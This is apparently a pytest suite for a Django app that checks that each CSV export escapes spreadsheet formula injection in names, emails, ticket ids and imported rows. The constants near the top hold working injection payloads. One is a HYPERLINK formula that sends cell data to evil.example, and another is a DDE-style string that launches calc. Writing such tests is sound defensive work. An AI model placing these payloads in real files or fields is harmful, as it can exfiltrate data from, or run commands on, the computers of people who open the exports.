"""Every CSV the product writes goes through the one writer (curriculum.csv_export): a
formula typed into any user field (an agent's name or email, a ticket id, an imported row)
comes out escaped in every CSV endpoint, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from curriculum.csv_export import FORMULA_PREFIXES, csv_cell, csv_lines, csv_response
from reporting.impact import report, services
from tests.factories import MembershipFactory, UserFactory
from tests.grading.console.conftest import graded_submission

from .conftest import AFTER_DAY, BEFORE_DAY, make_tickets
from .test_import import HEADER, csv_file

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
EMAIL = "=cmd@example.com"
TICKET_ID = "@SUM(1+1)*cmd|'/C calc'!A0"


def cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                float(cell)  # only a plain number may start with + or -


@pytest.fixture
def formula_agent(impact, agents):
    agent = UserFactory(full_name=NAME, email=EMAIL)
    MembershipFactory(cohort=impact.cohort, user=agent)
    make_tickets(agent, BEFORE_DAY, 2, prefix="f-b", handle_time_seconds=900, csat=4)
    make_tickets(agent, AFTER_DAY, 2, prefix="f-a", handle_time_seconds=600, csat=5)
    make_tickets(agents[0], AFTER_DAY, 1, prefix="a-a", handle_time_seconds=300, csat=2)
    return agent


def test_grades_and_progress_csv_escape_the_agents_name_and_email(
    client, trainer, impact, formula_agent, exercise
):
    graded_submission(formula_agent, exercise, {"accuracy": 2, "empathy": 1})
    client.force_login(trainer)
    for name in ("grading:console-grades-csv", "grading:console-progress-csv"):
        rows = cells(client.get(reverse(name, args=[impact.cohort.slug])))
        assert_no_formula(rows)
        mine = next(row for row in rows if row[1] == "'" + NAME)
        assert mine[0] == "'" + EMAIL


@pytest.mark.parametrize("chart", report.CHART_NAMES)
def test_every_chart_csv_escapes_agent_names(client, leader, impact, formula_agent, chart):
    client.force_login(leader)
    url = reverse("impact:chart-csv", args=[impact.cohort.slug, chart])
    for query in ("", f"?agent={formula_agent.pk}"):
        rows = cells(client.get(url + query))
        assert_no_formula(rows)
        if chart in {"adoption", "agents"}:
            assert ["'" + NAME] in [row[:1] for row in rows], rows


def test_rejected_rows_csv_escapes_ticket_ids_and_raw_lines(
    client, leader, agents, django_capture_on_commit_callbacks
):
    lines = [
        f"{TICKET_ID},{agents[0].email},not-a-date,simple,420,300,3600,5,human,,",
        "-2+3,nobody@example.com,2025-06-01T10:00:00Z,simple,420,300,3600,5,human,,",
    ]
    with django_capture_on_commit_callbacks(execute=True):
        job = services.import_job_create(user=leader, upload=csv_file(*lines))
    client.force_login(leader)
    rows = cells(client.get(reverse("impact:import-rejections-csv", args=[job.pk])))
    assert rows[0] == ["line", "ticket_id", "reason", "raw"]
    assert_no_formula(rows)
    assert [row[1] for row in rows[1:]] == ["'" + TICKET_ID, "'-2+3"]
    assert all(row[3].startswith("'") for row in rows[1:])
    assert HEADER.startswith("ticket_id")


# ---- the writer itself ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("", ""),
        (None, ""),
        (-4, -4),
        (-0.25, -0.25),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, "True"),
    ],
)
def test_a_cell_that_could_run_as_a_formula_is_escaped(value, written):
    assert csv_cell(value) == written


def test_the_writer_yields_one_line_per_row_for_streaming():
    lines = csv_lines(["name", "n"], iter([["=x", 1], ["y", -2]]))
    assert next(lines) == "name,n\r\n"
    assert next(lines) == "'=x,1\r\n"
    assert next(lines) == "y,-2\r\n"
    response = csv_response("x.csv", ["name"], [["=x"]], stream=True)
    assert isinstance(response, StreamingHttpResponse)
    assert b"".join(response.streaming_content) == b"name\r\n'=x\r\n"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
